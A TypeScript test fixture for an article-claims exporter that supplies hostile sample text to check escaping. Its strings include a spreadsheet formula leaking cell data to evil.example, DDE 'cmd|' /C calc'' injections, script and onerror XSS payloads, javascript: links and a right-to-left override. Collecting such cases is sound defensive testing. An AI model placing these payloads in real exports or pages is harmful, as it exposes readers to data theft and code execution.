// Records whose page text tries every trick an export could fall for: spreadsheet formulas,
// CSV quoting, line breaks, HTML and script, Markdown links and images, Obsidian syntax, bare
// URLs, a megabyte-long sentence, right-to-left text, emoji and lone surrogates.
// Test-only: every one is valid by the import schema, so it must also survive a JSON round trip.
import type { ArticleRecord, SavedClaim } from '../engine/types';

export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3 is how moats erode',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1 after a tab',
  '\r=1+1 after a carriage return',
  '＝1+1 full-width equals',
  'He said, "moats, like castles," are "gone".',
  'line one\r\nline two\nline three\rline four',
  '<script>alert("x")</script><img src=x onerror=alert(1)> & &amp; &lt;b&gt;',
  '[click me](javascript:alert(1)) ![pixel](http://evil.example/p.png) <http://evil.example/>',
  'Visit https://evil.example/a_(b)*c* or www.evil.example or mail@evil.example today.',
  '[[Wiki link]] #tag $x^2$ %%hidden%% ==marked== ~~struck~~ | a | b |',
  '# Heading? - list * item 1. one > quote ``` fence `tick`',
  '`https://in-a-tick.example` and ``double`` ticks',
  'Trailing backslash \\',
  'OpenAI’s moat — “is eroding”, say analysts… (¯\\_(ツ)_/¯)',
  'مايكروسوفت تستحوذ على السوق \u202Eevil\u202C text',
  'Emoji 🤖🏰 and ZWJ 👩‍💻 and combining é',
  'Lone surrogates \uD800 and \uDFFF here',
  `${'A very long sentence about moats, '.repeat(31_000)}end.`,
];

function claimFor(text: string, i: number, at: number): SavedClaim {
  return {
    id: `h${i}`,
    text,
    start: at,
    end: at + text.length,
    labels: [
      i % 2
        ? { category: 'moat', direction: 'eroding' }
        : { category: 'open_source_parity', direction: 'closing' },
    ],
    certainty: i % 3 ? 'asserted' : 'hedged',
    attribution: i % 4 === 0 ? '=cmd|attrib, "quoted"' : null,
    actors: i % 5 === 0 ? ['@OpenAI', 'Meta, Inc.', '<b>Google</b>'] : ['Mistral'],
    score: 0.5,
    rules: ['moat.erode'],
    quote: { exact: text, prefix: '-prefix, "x" ', suffix: ' =suffix\n' },
    position: { start: at, end: at + text.length },
  };
}

export function hostileRecords(): ArticleRecord[] {
  let at = 0;
  const claims = HOSTILE_TEXTS.map((text, i) => {
    const claim = claimFor(text, i, at);
    at += text.length + 1;
    return claim;
  });
  return [
    {
      url: 'https://evil.example/news/a(b)c?q="x"&r=<y>#frag',
      title: '=cmd [Title](javascript:alert(1)) <script>x</script> # not a heading',
      site: 'evil.example',
      savedAt: '2024-05-02T10:00:00.000Z',
      claims: claims.slice(0, 12),
    },
    {
      url: 'file:///home/reader/saved%20page.html',
      title: '',
      site: '',
      savedAt: '2024-05-01T08:00:00+02:00',
      claims: claims.slice(12),
    },
  ];
}
